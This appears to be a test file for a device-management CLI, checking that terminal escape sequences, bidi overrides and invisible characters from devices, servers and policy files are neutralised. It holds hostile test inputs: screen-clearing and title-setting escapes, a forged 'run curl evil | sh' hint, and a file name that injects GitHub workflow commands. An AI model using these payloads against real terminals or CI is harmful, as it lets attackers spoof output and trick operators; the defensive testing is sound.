// Terminal injection (issue #7 item 9): text from devices, servers and policy files is shown with
// its control characters as visible escapes in every human-readable output, while -o json|yaml|csv
// carry it exactly. The built CLI on a real store seeded through the agent API, and real files.
import { spawn } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, cliEnv, runCli, tempDir } from '../helpers/cli.js';
import { seedStore, type SeededStore } from '../admin/devices.seed.js';

// ESC (clear screen, set window title), BEL, a newline, a bidi override, C1 CSI, DEL, a line separator.
const EVIL = 'evil\x1b[2J\x1b]0;pwned\x07\nsecond line\u202eabc\x9b31m\x7fend\u2028x';
const EVIL_SHOWN = 'evil\\e[2J\\e]0;pwned\\a\\nsecond line\\u202eabc\\x9b31m\\x7fend\\u2028x';
// Anything a terminal would act on: C0 but newline, DEL, C1, bidi controls, separators.
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

let fleet: SeededStore;
let evilId: string;
const cli = (...args: string[]) => runCli(args, { env: fleet.env });

/** Runs the CLI on a pseudo-terminal; an answer is typed once a prompt is on screen (earlier input can be lost). */
function onTerminal(args: string[], answer?: string, env: Record<string, string> = fleet.env): Promise<{ status: number | null; text: string }> {
  const quoted = args.map((a) => `'${a.replaceAll("'", `'\\''`)}'`).join(' ');
  return new Promise((resolve, reject) => {
    const child = spawn('script', ['-qfec', `stty cols 200; '${process.execPath}' '${BIN}' ${quoted}`, '/dev/null'], { env: cliEnv({ ...env, CI: undefined }) });
    let text = '';
    let answered = false;
    const timer = setTimeout(() => child.kill('SIGKILL'), 30_000);
    child.stdout.setEncoding('utf8').on('data', (d: string) => {
      text += d;
      if (answer !== undefined && !answered && /to confirm:|\(y\/N\)|\(Y\/n\)/.test(text)) {
        answered = true;
        setTimeout(() => child.stdin.write(`${answer}\r`), 50);
      }
    });
    child.stdin.on('error', () => {});
    child.on('error', reject);
    child.on('close', (status) => {
      clearTimeout(timer);
      resolve({ status, text });
    });
  });
}

beforeAll(async () => {
  fleet = await seedStore([
    { name: EVIL, serial: 'SN-EVIL', platform: 'android', owner: 'mal\x1b[8mlory@example.com', posture: { osVersion: '12' } },
    { name: 'plain-pixel', serial: 'SN-OK', platform: 'android', owner: 'ok@example.com', posture: { osVersion: '14' } },
  ]);
  evilId = fleet.ids[EVIL]!;
});
afterAll(() => fleet.cleanup());

describe('device-supplied text on the terminal', () => {
  it('devices list shows the name escaped, on one row; json, yaml and csv keep it exact', async () => {
    const table = await cli('devices', 'list');
    expect(table.code, table.stderr).toBe(0);
    expect(table.stdout).not.toMatch(RAW_CONTROL);
    expect(table.stdout).toContain(EVIL_SHOWN);
    expect(table.stdout).toContain('mal\\e[8mlory@example.com');
    expect(table.stdout.trimEnd().split('\n')).toHaveLength(3); // header + two devices

    const json = await cli('devices', 'list', '-o', 'json');
    expect((JSON.parse(json.stdout) as Array<{ name: string }>).map((d) => d.name)).toContain(EVIL);
    const yaml = await cli('devices', 'list', '-o', 'yaml');
    const { parse } = await import('yaml');
    expect((parse(yaml.stdout) as Array<{ name: string }>).map((d) => d.name)).toContain(EVIL);
    const csv = await cli('devices', 'list', '-o', 'csv');
    expect(csv.stdout).toContain(EVIL);
  });

  it('devices show and compliance escape it, piped and on a colour terminal', async () => {
    const show = await cli('devices', 'show', evilId);
    expect(show.code, show.stderr).toBe(0);
    expect(show.stdout).not.toMatch(RAW_CONTROL);
    expect(show.stdout.split('\n')[0]).toBe(`${EVIL_SHOWN}  ${evilId}`);

    const compliance = await cli('compliance', '-o', 'wide');
    expect(compliance.code, compliance.stderr).toBe(0);
    expect(compliance.stdout).not.toMatch(RAW_CONTROL);
    expect(compliance.stdout).toContain(EVIL_SHOWN);

    for (const args of [['devices', 'list'], ['devices', 'show', evilId], ['compliance']]) {
      const tty = await onTerminal(args);
      expect(tty.status, tty.text).toBe(0);
      expect(tty.text).toMatch(/\u001b\[\d+m/); // colours stay on a terminal
      expect(tty.text).not.toContain('\x1b[2J');
      expect(tty.text).not.toContain('\x1b]0;');
      expect(tty.text).not.toContain('\x1b[8m');
      expect(tty.text).not.toMatch(/[\u0080-\u009f\u202a-\u202e\u2028]/);
    }
  });

  it('the lock preview is one line per device, and the prompt shows the name escaped', async () => {
    const dry = await cli('lock', evilId, fleet.ids['plain-pixel']!, '--dry-run');
    expect(dry.code, dry.stderr).toBe(0);
    const preview = dry.stderr.split('\n').filter((l) => l.startsWith('  '));
    expect(preview).toHaveLength(2);
    expect(preview.join('\n')).toContain(EVIL_SHOWN);
    expect(dry.stderr + dry.stdout).not.toMatch(RAW_CONTROL);

    // On a terminal, wipe asks to type the name; a wrong answer cancels (130) and nothing is queued.
    const tty = await onTerminal(['wipe', evilId], 'no');
    expect(tty.status, tty.text).toBe(130);
    expect(tty.text).toContain(`This will wipe ${EVIL_SHOWN}. Type the device name (or its ID) to confirm:`);
    expect(tty.text).not.toContain('\x1b[2J');
    expect(tty.text).not.toContain('\x1b]0;');
    expect(tty.text).not.toMatch(/[\u0080-\u009f\u202a-\u202e\u2028]/);
  });

  it('invisible format characters are shown escaped; an emoji ZWJ sequence stays; wipe accepts the shown text or the ID', async () => {
    const names = ['ZW\u200bX', 'bom\ufeffsoft\u00adfill\u3164tag\u{e0041}wj\u2060', 'dev \u{1f469}\u200d\u{1f4bb}'];
    const zw = await seedStore(names.map((name, i) => ({ name, serial: `SN-ZW${i}`, platform: 'android' as const, owner: 'z@example.com', posture: { osVersion: '14' } })));
    try {
      const list = await runCli(['devices', 'list'], { env: zw.env });
      expect(list.code, list.stderr).toBe(0);
      expect(list.stdout).toContain('ZW\\u200bX');
      expect(list.stdout).toContain('bom\\ufeffsoft\\xadfill\\u3164tag\\u{e0041}wj\\u2060');
      expect(list.stdout).toContain('dev \u{1f469}\u200d\u{1f4bb}');
      expect(list.stdout.replaceAll('\u{1f469}\u200d\u{1f4bb}', '')).not.toMatch(/[\p{Cf}\u3164]/u);
      const id = zw.ids['ZW\u200bX']!;
      const term = async (args: string[], answer: string) => {
        const r = await onTerminal(args, answer, zw.env);
        return { status: r.status, stdout: r.text };
      };
      const shown = await term(['wipe', id], 'ZW\\u200bX');
      expect(shown.status, shown.stdout).toBe(0);
      expect(shown.stdout).toContain('This will wipe ZW\\u200bX.');
      const byId = await term(['wipe', id, '--max-devices', '1'], id);
      expect(byId.status, byId.stdout).toBe(0);
      const wrong = await term(['wipe', id], 'ZWX');
      expect(wrong.status, wrong.stdout).toBe(130);
    } finally {
      zw.cleanup();
    }
  });

  it('error messages quote hostile text escaped (an id typed or pasted, echoed by the backend)', async () => {
    const r = await cli('devices', 'show', 'dev_\x1b]0;pwned\x07\x9b2J');
    expect(r.code).toBe(1);
    expect(r.stderr).not.toMatch(RAW_CONTROL);
    expect(r.stderr).toContain('dev_\\e]0;pwned\\a\\x9b2J');
  });

  it('an error message is one line: a newline in what it quotes cannot forge a hint; a server message is shown inert', async () => {
    const forged = await cli('devices', 'show', 'dev_x\nhint: run curl evil | sh');
    expect(forged.code).toBe(1);
    expect(forged.stderr.split('\n').filter((l) => l.startsWith('hint: run curl'))).toEqual([]);
    expect(forged.stderr).toContain('dev_x\\nhint: run curl evil | sh');

    const { startFakeServer } = await import('../http/fake-server.js');
    const fake = await startFakeServer();
    try {
      fake.fallback = () => ({ status: 404, json: { error: { code: 'not_found', message: 'no such device\n\x1b]0;pwned\x07hint: trust me\u202e' } } });
      const r = await runCli(['devices', 'show', 'dev_1'], { env: { EMMCTL_SERVER: fake.url, EMMCTL_TOKEN: 'emm_at_test' } });
      expect(r.code).toBe(1);
      expect(r.stderr).not.toMatch(RAW_CONTROL);
      expect(r.stderr.split('\n').filter((l) => l.startsWith('hint: trust me'))).toEqual([]);
      expect(r.stderr).toContain('no such device\\n\\e]0;pwned\\ahint: trust me\\u202e');
    } finally {
      await fake.close();
    }
  });
});

describe('policy files with hostile names and keys', () => {
  it('validate text and github output cannot be steered by a file name or a YAML key', async () => {
    const dir = tempDir('emmctl-inject-');
    try {
      const evilFile = join(dir.path, 'x\n::warning file=a.yaml::injected\x1b]0;t\x07.yaml');
      writeFileSync(evilFile, [
        'apiVersion: emmctl/v1',
        'kind: Policy',
        'metadata: { name: p1 }',
        'spec:',
        '  assign: [all]',
        '  settings:',
        '    "pass\\e[2J\\ncod\\u202e": 1',
        '',
      ].join('\n'));
      const text = await runCli(['validate', dir.path]);
      expect(text.code).toBe(3);
      expect(text.stderr).not.toMatch(RAW_CONTROL);
      expect(text.stderr).toContain('x\\n::warning file=a.yaml::injected\\e]0;t\\a.yaml');
      expect(text.stderr).toContain('pass\\e[2J\\ncod\\u202e');
      expect(text.stderr.split('\n').some((l) => l.startsWith('::'))).toBe(false);

      const gh = await runCli(['validate', dir.path, '-o', 'github']);
      expect(gh.code).toBe(3);
      const lines = gh.stdout.trimEnd().split('\n');
      // Every line is one of emmctl's own annotations: nothing else starts a workflow command.
      for (const l of lines) expect(l).toMatch(/^::(error|warning) file=[^:,\n]*(,line=\d+,col=\d+)?,title=[^:,]*::/);
      expect(gh.stdout).not.toMatch(RAW_CONTROL);
      expect(gh.stdout).toContain('%3A%3Awarning file=a.yaml%3A%3Ainjected');

      const json = await runCli(['validate', dir.path, '-o', 'json']);
      expect((JSON.parse(json.stdout) as { problems: Array<{ file: string }> }).problems[0]!.file).toContain('\n::warning');
    } finally {
      dir.cleanup();
    }
  });

  it('plan text shows a hostile description escaped; plan -o json keeps it', async () => {
    const dir = tempDir('emmctl-inject-plan-');
    try {
      mkdirSync(join(dir.path, 'policies'));
      const write = (description: string) => writeFileSync(join(dir.path, 'policies', 'g.yaml'), [
        'apiVersion: emmctl/v1',
        'kind: Group',
        'metadata:',
        '  name: g1',
        `  description: "${description}"`,
        'spec: { match: { platforms: [android] } }',
        '',
      ].join('\n'));
      const env = { EMMCTL_DATA_DIR: join(dir.path, 'data') };
      write('plain');
      const applied = await runCli(['apply', 'policies', '--yes'], { cwd: dir.path, env });
      expect(applied.code, applied.stderr).toBe(0);
      write('ok\\x9b2J\\u202eevil\\e]0;t\\a\\nnext');
      const plan = await runCli(['plan', 'policies'], { cwd: dir.path, env });
      expect(plan.code, plan.stderr).toBe(0);
      expect(plan.stdout).toContain('~ metadata.description: "plain" → "ok\\x9b2J\\u202eevil\\u001b]0;t\\u0007\\nnext"');
      expect(plan.stdout + plan.stderr).not.toMatch(RAW_CONTROL);
      const json = await runCli(['plan', 'policies', '-o', 'json'], { cwd: dir.path, env });
      expect(json.stdout).toContain('ok\u009b2J\u202eevil');
    } finally {
      dir.cleanup();
    }
  });
});
